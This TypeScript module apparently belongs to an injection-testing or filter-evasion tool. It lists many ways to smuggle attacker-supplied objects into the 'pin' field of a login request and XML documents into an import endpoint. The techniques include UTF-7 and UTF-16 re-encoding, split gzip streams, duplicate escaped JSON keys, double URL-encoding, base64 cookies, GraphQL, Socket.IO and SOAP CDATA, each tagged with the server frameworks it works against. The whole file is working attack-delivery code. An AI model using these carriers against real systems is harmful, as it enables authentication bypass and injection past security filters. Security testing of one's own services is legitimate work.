import { gzipSync } from 'node:zlib';
import { get, json, post, query } from '../message.ts';
import { type Carrier, escaped, utf7, wide } from '../second/carrier.ts';
import { HEAD_CHARS } from '../way.ts';

const PATH = '/v5/login';
const coded = (text: string): string => escaped(Buffer.from(text));

/** `a[b][c]=1` of an object, each part of the name by `write`. */
function bracketed(value: unknown, key: string, write: (name: string) => string): string[] {
  if (typeof value !== 'object' || value === null) return [`${key}=${coded(String(value))}`];
  return Object.entries(value).flatMap(([name, one]) => bracketed(one, `${key}[${write(name)}]`, write));
}

/** Ways of values that are objects. */
export const OBJECT_WAYS: readonly Carrier[] = [
  { name: 'object: JSON', on: 'all', carry: (t) => post(PATH, 'application/json', `{"login":"eve","pin":${t}}`) },
  {
    name: 'object: JSON with comments',
    on: 'Gson, JSON5',
    carry: (t) => post(PATH, 'application/json', `{"pin":/*a*/${t.replaceAll(':', '/**/:')}}`),
  },
  {
    name: 'object: names in mixed escapes',
    on: 'all',
    carry: (t) =>
      post(PATH, 'application/json', `{"pin":${t.replace(/"\$(\w)/g, (_, a: string) => `"\\u0024\\u00${a.charCodeAt(0).toString(16)}`)}}`),
  },
  {
    name: 'object: second of a name',
    on: 'all that take the last',
    carry: (t) => post(PATH, 'application/json', `{"pin":"4711","p\\u0069n":${t}}`),
  },
  { name: 'object: JSON in UTF-16', on: 'Jackson, Flask', carry: (t) => post(PATH, 'application/json', wide(`{"pin":${t}}`, 2, 'big')) },
  { name: 'object: JSON in UTF-7', on: 'ASP.NET', carry: (t) => post(PATH, 'application/json; charset=utf-7', utf7(`{"pin":${t}}`)) },
  {
    name: 'object: JSON in gzip',
    on: 'Express',
    carry: (t) => post(PATH, 'application/json', gzipSync(`{"pin":${t}}`), { headers: [['content-encoding', 'gzip']] }),
  },
  {
    name: 'object: GraphQL literal',
    on: 'servers with a JSON scalar',
    carry: (t) => json('/graphql', { query: `{ users(where: {pin: ${t.replace(/"([\w$]+)":/g, '$1:')}}) { id } }` }),
  },
  {
    name: 'object: GraphQL variables as a text',
    on: 'express-graphql',
    carry: (t) => json('/graphql', { query: 'query($w:JSON){users(where:$w){id}}', variables: `{"w":{"pin":${t}}}` }),
  },
  {
    name: 'object: Socket.IO',
    on: 'Socket.IO',
    carry: (t) => post('/socket.io/?EIO=4&transport=polling', 'text/plain', `42["login",{"pin":${t}}]`),
  },
  { name: 'object: SockJS', on: 'SockJS', carry: (t) => post('/live/1/2/xhr_send', 'text/plain', JSON.stringify([`{"pin":${t}}`])) },
  {
    name: 'object: names in brackets, escaped',
    on: 'Express, PHP',
    carry: (t) =>
      post(
        PATH,
        'application/x-www-form-urlencoded',
        bracketed(JSON.parse(t), 'pin', coded)
          .join('&')
          .replace(/[[\]](?=.*=)/g, coded),
      ),
  },
  {
    name: 'object: brackets in a query of two question marks',
    on: 'Express',
    charsMax: HEAD_CHARS / 4,
    carry: (t) => get(`/v5/users??a=1&${bracketed(JSON.parse(t), 'pin', coded).join('&')}`),
  },
  {
    name: 'object: JSON in the path',
    on: 'Parse-like servers',
    charsMax: HEAD_CHARS / 4,
    carry: (t) => get(`/v5/users/${coded(`{"pin":${t}}`)}`),
  },
  {
    name: 'object: cookie in base64',
    on: 'programs that read it',
    charsMax: HEAD_CHARS / 4,
    carry: (t) => get(PATH, { headers: [['cookie', `q=${Buffer.from(`{"pin":${t}}`).toString('base64url')}`]] }),
  },
  {
    name: 'object: query, escaped twice',
    on: 'programs that decode again',
    charsMax: HEAD_CHARS / 4,
    carry: (t) => get(`/v5/users?${query({ where: coded(`{"pin":${t}}`) })}`),
  },
  { name: 'object: YAML', on: 'programs that take YAML', carry: (t) => post(PATH, 'application/yaml', `login: eve\npin: ${t}\n`) },
];

const declared = (text: string, encoding: string): string =>
  `<?xml version="1.0" encoding="${encoding}"?>${text.replace(/^<\?xml .*?\?>/, '')}`;

/** Ways of XML documents. */
export const DOCUMENT_WAYS: readonly Carrier[] = [
  { name: 'document: body', on: 'all', carry: (t) => post('/v5/import', 'application/xml', t) },
  { name: 'document: as CSS', on: 'PHP, programs that read the body', carry: (t) => post('/v5/import', 'text/css', t) },
  { name: 'document: of a vendor', on: 'Spring, Jersey', carry: (t) => post('/v5/import', 'application/vnd.bank.v5+xml; q=1', t) },
  {
    name: 'document: in UTF-7',
    on: 'libxml2, .NET',
    carry: (t) => post('/v5/import', 'text/xml', `<?xml version="1.0" encoding="UTF-7"?>${utf7(t.replace(/^<\?xml .*?\?>/, ''))}`),
  },
  {
    name: 'document: in UTF-16, said to be UTF-8',
    on: 'readers that believe the bytes',
    carry: (t) => post('/v5/import', 'text/xml; charset=utf-8', wide(`\uFEFF${declared(t, 'UTF-16')}`, 2, 'big')),
  },
  {
    name: 'document: in Windows-1252',
    on: 'all',
    carry: (t) => post('/v5/import', 'application/xml', Buffer.from(`${declared(t, 'windows-1252')}<!--\xfc-->`, 'latin1')),
  },
  {
    name: 'document: in a form field, escaped twice',
    on: 'programs that decode again',
    carry: (t) => post('/v5/import', 'application/x-www-form-urlencoded', query({ xml: coded(t) })),
  },
  {
    name: 'document: in a table cell',
    on: 'imports',
    carry: (t) => post('/v5/import', 'text/csv', `id,doc\r\n1,"${t.replaceAll('"', '""')}"\r\n`),
  },
  {
    name: 'document: in CDATA of SOAP',
    on: 'programs that read it again',
    carry: (t) =>
      t.includes(']]>')
        ? null
        : post(
            '/soap',
            'text/xml',
            `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><d><![CDATA[${t}]]></d></s:Body></s:Envelope>`,
          ),
  },
  {
    name: 'document: in gzip of two members',
    on: 'zlib, Go, Java',
    carry: (t) =>
      post('/v5/import', 'application/xml', Buffer.concat([gzipSync(t.slice(0, 30)), gzipSync(t.slice(30))]), {
        headers: [['content-encoding', 'gzip']],
      }),
  },
  {
    name: 'document: Socket.IO',
    on: 'Socket.IO',
    carry: (t) => post('/socket.io/?EIO=4&transport=polling', 'text/plain', `42["import",${JSON.stringify(t)}]`),
  },
];
